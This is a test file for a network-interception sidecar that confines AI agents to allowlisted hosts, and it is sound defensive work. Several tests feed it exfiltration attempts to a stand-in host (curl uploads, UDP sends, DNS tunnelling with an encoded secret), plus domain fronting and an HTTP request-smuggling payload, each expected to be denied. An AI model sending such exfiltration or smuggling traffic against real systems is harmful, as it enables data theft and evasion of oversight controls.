// The data path with real clients in a pod-like network namespace: the real interception rules
// (init-network), the real sidecar as UID 1337, agents as UID 1000 (and root), upstreams on the
// host side of a veth. Each test states one thing a user relies on.
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { createSocket } from 'node:dgram';
import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { AGENT_UID, AgentNetns, SIDECAR_UID, canCreateNetns } from '../support/netns/agent-netns.ts';
import { startNetnsSidecar } from '../support/netns/netns-sidecar.ts';
import type { NetnsSidecar } from '../support/netns/netns-sidecar.ts';
import { createTestCa, startHttpUpstream, startHttpsUpstream } from '../../testkit/sidecar/upstreams.ts';
import type { TestUpstream } from '../../testkit/sidecar/upstreams.ts';
import { createBareRepo, gitBackendHandler } from '../../testkit/git/git-backend.ts';
import { repoRoot } from '../../testkit/sidecar/test-sidecar.ts';

const support = canCreateNetns();
const describeNetns = support.ok ? describe : describe.skip;
if (!support.ok) console.warn(`datapath e2e skipped: ${support.reason}`);

let ns: AgentNetns;
let sidecar: NetnsSidecar;
let api: TestUpstream;
let git: TestUpstream;
let plain: TestUpstream;
let api6: TestUpstream;
let repos: string;

beforeAll(async () => {
  ns = new AgentNetns(repoRoot);
  const ca = await createTestCa();
  repos = createBareRepo('acme', 'app').root;
  mkdirSync(join(repos, 'tmp'), { recursive: true });
  api = await startHttpsUpstream(ca, ['registry.npmjs.org', 'api.openai.com', 'exfil.example'], undefined, ns.hostAddr4);
  git = await startHttpsUpstream(ca, ['github.com'], gitBackendHandler(repos), ns.hostAddr4);
  plain = await startHttpUpstream(undefined, ns.hostAddr4);
  api6 = await startHttpsUpstream(ca, ['pypi.org'], undefined, ns.hostAddr6);
  sidecar = await startNetnsSidecar(ns, {
    resolve: {
      'registry.npmjs.org:443': api.dial,
      'api.openai.com:443': api.dial,
      'exfil.example:443': api.dial,
      'github.com:443': git.dial,
      'github.com:80': plain.dial,
      'pypi.org:443': api6.dial,
    },
    extraRootsFiles: [ca.caFile],
  });
}, 120_000);

afterAll(async () => {
  await sidecar?.stop();
  for (const u of [api, git, plain, api6]) await u?.close();
  ns?.destroy();
});

/** curl as the agent; -w prints the status on the last line. */
async function curl(args: string[], uid = AGENT_UID) {
  const r = await ns.run('curl', ['-sS', '--max-time', '20', '-w', '\n%{http_code}', ...args], { uid, env: sidecar.agentEnv });
  const lines = r.stdout.split('\n');
  const status = Number(lines.pop());
  return { status, body: lines.join('\n'), stderr: r.stderr, code: r.code };
}

async function metric(name: string, labels: string): Promise<number> {
  const text = await (await fetch(`${sidecar.adminUrl}/metrics`)).text();
  const line = text.split('\n').find((l) => l.startsWith(`${name}{`) && l.includes(labels));
  return line ? Number(line.split(' ').pop()) : 0;
}

/** Runs a small Python program as the agent (raw sockets for what curl cannot send). */
async function python(code: string, uid = AGENT_UID) {
  return ns.run('/usr/bin/python3', ['-c', code], { uid, env: sidecar.agentEnv });
}

async function filterDrops(): Promise<number> {
  const r = await ns.run('iptables', ['-L', 'SLUICE_OUT', '-v', '-x', '-n'], { uid: 0 });
  const line = r.stdout.split('\n').find((l) => /\sDROP\s/.test(l));
  return line ? Number(line.trim().split(/\s+/)[0]) : NaN;
}

describeNetns('transparent interception with real clients', () => {
  test('an allowed HTTPS request is intercepted, decided and forwarded without any proxy setting', async () => {
    const r = await curl(['https://registry.npmjs.org/express']);
    expect({ status: r.status, stderr: r.stderr }).toEqual({ status: 200, stderr: '' });
    expect(JSON.parse(r.body)).toMatchObject({ method: 'GET', url: '/express', host: 'registry.npmjs.org' });
  });

  test('an unknown host is denied with a 403 that names the rule, and nothing reaches it', async () => {
    const r = await curl(['https://exfil.example/upload', '-d', 'stolen']);
    expect(r.status).toBe(403);
    expect(JSON.parse(r.body)).toMatchObject({ error: 'net.not_allowlisted' });
    expect(api.requests.some((q) => q.headers.host === 'exfil.example')).toBe(false);
  });

  test('git clone over HTTPS works through the sidecar', async () => {
    const dir = join(ns.dirFor(AGENT_UID, 'agent-home'), 'clone');
    const r = await ns.run('git', ['clone', '-q', 'https://github.com/acme/app.git', dir], { uid: AGENT_UID, env: { ...sidecar.agentEnv, HOME: ns.dirFor(AGENT_UID, 'agent-home') } });
    expect({ code: r.code, stderr: r.stderr }).toEqual({ code: 0, stderr: '' });
    const log = await ns.run('git', ['-C', dir, 'log', '--oneline'], { uid: AGENT_UID, env: { HOME: ns.dirFor(AGENT_UID, 'agent-home') } });
    expect(log.stdout).toContain('initial');
  });

  test('git push is refused pending approval and no pack reaches the upstream', async () => {
    const home = ns.dirFor(AGENT_UID, 'agent-home');
    const dir = join(home, 'push');
    const env = { ...sidecar.agentEnv, HOME: home, GIT_AUTHOR_NAME: 'agent', GIT_AUTHOR_EMAIL: 'a@x', GIT_COMMITTER_NAME: 'agent', GIT_COMMITTER_EMAIL: 'a@x' };
    expect((await ns.run('git', ['clone', '-q', 'https://github.com/acme/app.git', dir], { uid: AGENT_UID, env })).code).toBe(0);
    await ns.run('sh', ['-c', `echo change >> ${dir}/README.md && git -C ${dir} commit -qam change`], { uid: AGENT_UID, env });
    const push = await ns.run('git', ['-C', dir, 'push', 'origin', 'main'], { uid: AGENT_UID, env });
    expect(push.code).not.toBe(0);
    expect(push.stderr).toMatch(/403/);
    expect(git.requests.some((q) => q.method === 'POST' && q.url.endsWith('/git-receive-pack'))).toBe(false);
  });

  test('curl and git negotiate HTTP/2 on the intercepted connection; the policy is the same', async () => {
    const r = await ns.run('curl', ['-sS', '--http2', '-o', '/dev/null', '-w', '%{http_version} %{http_code}', 'https://registry.npmjs.org/express'], { uid: AGENT_UID, env: sidecar.agentEnv });
    expect(r.stdout).toBe('2 200');
    const denied = await ns.run('curl', ['-sS', '--http2', '-o', '/dev/null', '-w', '%{http_version} %{http_code}', 'https://exfil.example/'], { uid: AGENT_UID, env: sidecar.agentEnv });
    expect(denied.stdout).toBe('2 403');
    const home = ns.dirFor(AGENT_UID, 'agent-home');
    const ls = await ns.run('git', ['-c', 'http.version=HTTP/2', 'ls-remote', 'https://github.com/acme/app.git'], { uid: AGENT_UID, env: { ...sidecar.agentEnv, HOME: home, GIT_TRACE_CURL: '1', GIT_TRACE_CURL_NO_DATA: '1' } });
    expect(ls.code).toBe(0);
    expect(ls.stdout).toMatch(/refs\/heads\/main/);
    expect(ls.stderr).toMatch(/ALPN.*h2|using HTTP\/2|HTTP\/2 200/i);
  });

  test('Node fetch and Python requests work as agents', async () => {
    const node = await ns.run(ns.node, ['-e', 'fetch("https://registry.npmjs.org/left-pad").then(r => r.text()).then(t => console.log(t))'], { uid: AGENT_UID, env: sidecar.agentEnv });
    expect(JSON.parse(node.stdout)).toMatchObject({ url: '/left-pad', host: 'registry.npmjs.org' });
    const py = await python('import requests; r = requests.get("https://registry.npmjs.org/requests"); print(r.status_code, r.json()["url"])');
    expect(py.stdout.trim()).toBe('200 /requests');
  });

  test('tools that honour HTTPS_PROXY use the explicit proxy port with the same policy', async () => {
    const ok = await curl(['-x', 'http://127.0.0.1:15080', 'https://registry.npmjs.org/via-proxy']);
    expect(ok.status).toBe(200);
    const denied = await curl(['-x', 'http://127.0.0.1:15080', 'https://exfil.example/']);
    expect(denied.stderr).toMatch(/CONNECT|403/);
  });

  test('a direct connection to an IP address is denied; the agent-chosen address is never dialled', async () => {
    const before = plain.requests.length;
    const r = await curl([`http://${ns.hostAddr4}:${plain.address.port}/secret`]);
    expect(r.status).toBe(403);
    expect(JSON.parse(r.body)).toMatchObject({ error: 'net.ip_literal_denied' });
    expect(plain.requests.length).toBe(before);
  });

  test('IPv6 is intercepted too: names resolve to fake IPv6 addresses and IPv6 literals are denied', async () => {
    const byName = await curl(['-6', 'https://pypi.org/simple/']);
    expect({ status: byName.status, body: byName.body }).toEqual({ status: 200, body: expect.stringContaining('pypi.org') });
    expect(api6.requests.at(-1)?.headers.host).toBe('pypi.org');
    const literal = await curl(['-g', `http://[${ns.hostAddr6}]:${api6.address.port}/`]);
    expect(literal.status).toBe(403);
    expect(JSON.parse(literal.body)).toMatchObject({ error: 'net.ip_literal_denied' });
  });

  test('UDP other than DNS is dropped before it leaves the pod', async () => {
    const received: Buffer[] = [];
    const sock = createSocket('udp4');
    sock.on('message', (m) => received.push(m));
    await new Promise<void>((r) => sock.bind(0, ns.hostAddr4, () => r()));
    const port = sock.address().port;
    const dropsBefore = await filterDrops();
    const send = await python(`import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ntry:\n  s.sendto(b"exfil", ("${ns.hostAddr4}", ${port}))\nexcept OSError as e:\n  print("blocked", e.errno)`);
    expect(send.code).toBe(0);
    // The DROP counter moves inside the sendto() call, so it is settled once the agent exits.
    expect(await filterDrops()).toBeGreaterThan(dropsBefore);
    // Anything sent on the link before this request would have arrived before it.
    expect((await curl(['http://github.com/after-udp'])).status).toBe(200);
    expect(received).toHaveLength(0);
    sock.close();
  });

  test('a DNS tunnelling attempt (TXT, long labels) is answered by the sidecar and carries nothing out', async () => {
    const received: Buffer[] = [];
    const dns = createSocket('udp4');
    dns.on('message', (m) => received.push(m));
    await new Promise<void>((r) => dns.bind(53, ns.hostAddr4, () => r()));
    const secret = 'c2VjcmV0LWRhdGEtZXhmaWx0cmF0ZWQtYnktZG5z';
    const txt = await ns.run('dig', ['+time=2', '+tries=1', 'TXT', `${secret}.exfil.example`], { uid: AGENT_UID });
    expect(txt.stdout).toMatch(/status: (REFUSED|NXDOMAIN)/);
    const long = await ns.run('dig', ['+time=2', '+tries=1', 'A', `${'a'.repeat(63)}.${'b'.repeat(63)}.${'c'.repeat(63)}.exfil.example`], { uid: AGENT_UID });
    // Whatever the answer (a fake address or a refusal), it comes from the sidecar itself.
    expect(long.stdout).toMatch(/status: (NOERROR|NXDOMAIN|REFUSED|FORMERR)/);
    expect((await curl(['http://github.com/after-dns'])).status).toBe(200);
    expect(received).toHaveLength(0);
    dns.close();
  });

  test('SNI and Host must agree (domain fronting is denied)', async () => {
    const r = await curl(['https://registry.npmjs.org/', '-H', 'Host: exfil.example']);
    expect(r.status).toBe(403);
    expect(JSON.parse(r.body)).toMatchObject({ error: 'net.sni_host_mismatch' });
  });

  test('a CL+TE request smuggling attempt is rejected by the parser and never forwarded', async () => {
    const before = plain.requests.length;
    const raw = 'POST /smuggle HTTP/1.1\\r\\nHost: github.com\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /admin HTTP/1.1\\r\\nHost: github.com\\r\\n\\r\\n';
    const r = await python(`import socket; s = socket.create_connection(("github.com", 80)); s.sendall(b"${raw}"); print(s.recv(4096).decode())`);
    expect(r.stdout).toMatch(/^HTTP\/1\.1 400/);
    expect({ response: r.stdout }).toEqual({ response: expect.stringContaining('code=http.ambiguous_length') });
    expect(plain.requests.length).toBe(before);
  });

  test('an oversized header block gets 431', async () => {
    const r = await curl(['http://github.com/big', '-H', `X-Fill: ${'x'.repeat(40_000)}`]);
    expect(r.status).toBe(431);
  });

  test('a protocol that is neither TLS nor HTTP is refused and counted', async () => {
    const before = await metric('sluice_refusals_total', 'code="net.not_http"');
    const r = await python('import socket; s = socket.create_connection(("github.com", 22)); s.sendall(b"SSH-2.0-OpenSSH_9.2\\r\\n"); print(repr(s.recv(1024)))');
    expect(r.stdout.trim()).toBe("b''");
    expect(await metric('sluice_refusals_total', 'code="net.not_http"')).toBe(before + 1);
  });

  test("the sidecar's own UID is the only one exempt from interception", async () => {
    const url = `http://${ns.hostAddr4}:${plain.address.port}/direct`;
    const asSidecar = await curl([url], SIDECAR_UID);
    expect(asSidecar.status).toBe(200);
    for (const uid of [AGENT_UID, 0, SIDECAR_UID + 1, 65534]) {
      const r = await curl([url], uid);
      expect({ uid, status: r.status }).toEqual({ uid, status: 403 });
    }
  });

  test("agents cannot reach the sidecar's admin port", async () => {
    const agent = await curl(['http://127.0.0.1:15090/metrics']);
    expect(agent.status).toBe(0);
    expect(agent.stderr).toMatch(/Couldn't connect|Connection refused|reset/i);
    const own = await curl(['http://127.0.0.1:15090/healthz'], SIDECAR_UID);
    expect(own.status).toBe(200);
  });
});
